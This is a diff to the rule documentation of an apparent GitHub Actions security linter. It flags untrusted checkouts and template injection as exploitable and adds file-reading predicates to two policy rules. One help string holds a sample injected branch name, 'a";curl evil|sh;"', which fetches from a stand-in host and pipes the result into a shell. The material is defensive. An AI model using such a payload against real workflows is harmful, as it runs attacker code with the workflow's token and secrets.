@@ -27,13 +27,13 @@ var ruleDocs = []RuleMeta{
 		Help: "`pull_request_target` and `workflow_run` run with a write token and secrets, even for pull requests from forks. " +
 			"They are safe only when the workflow never runs code or expands text from the pull request; " +
 			"see untrusted-checkout and template-injection."},
-	{ID: RuleUntrustedCheckout, Name: "UntrustedCheckout", Severity: High,
+	{ID: RuleUntrustedCheckout, Name: "UntrustedCheckout", Severity: High, Exploitable: true,
 		Short: "Privileged workflow checks out and runs a pull request's code",
 		Help: "A `pull_request_target`, `workflow_run` or `issue_comment` workflow that checks out the pull request's head and " +
 			"then runs build steps gives a fork's author the workflow's token and secrets (the Ultralytics compromise in " +
 			"December 2024 began like this). Use `pull_request` for untrusted code, or split the work so that the privileged " +
 			"part never executes the checkout."},
-	{ID: RuleTemplateInjection, Name: "TemplateInjection", Severity: High,
+	{ID: RuleTemplateInjection, Name: "TemplateInjection", Severity: High, Exploitable: true,
 		Short: "Attacker-controlled text expanded into a script",
 		Help: "`${{ … }}` is substituted into a `run:` script or a github-script `script:` before it runs, so a pull request " +
 			"title or branch name such as `a\";curl evil|sh;\"` becomes code. Pass the value through `env:` and use the " +
@@ -45,11 +45,11 @@ var ruleDocs = []RuleMeta{
 		Short: "Checkout credentials may end up in an uploaded artifact",
 		Help: "Before v6, actions/checkout writes the token into `.git/config`; a job that later uploads the workspace as an " +
 			"artifact publishes it. Set `persist-credentials: false` on the checkout (or update to actions/checkout v6)."},
-	{ID: RuleMissingSecurityPolicy, Name: "MissingSecurityPolicy", Severity: Low, Remediation: FixSecurityPolicy,
+	{ID: RuleMissingSecurityPolicy, Name: "MissingSecurityPolicy", Severity: Low, Remediation: FixSecurityPolicy, Reads: isSecurityPolicy,
 		Short: "No security policy",
 		Help: "Without SECURITY.md a researcher has no private way to report a vulnerability and may open a public issue. " +
 			"Add a policy that points to private vulnerability reporting."},
-	{ID: RuleMissingDependencyUpd, Name: "MissingDependencyUpdates", Severity: Low, Remediation: FixDependabot,
+	{ID: RuleMissingDependencyUpd, Name: "MissingDependencyUpdates", Severity: Low, Remediation: FixDependabot, Reads: isDependencyUpdateConfig,
 		Short: "Pinned actions are not kept up to date",
 		Help: "Pins rot: without Dependabot (or Renovate) updating the `github-actions` ecosystem, pinned SHAs never receive " +
 			"security fixes. Add a `github-actions` entry to `.github/dependabot.yml`."},
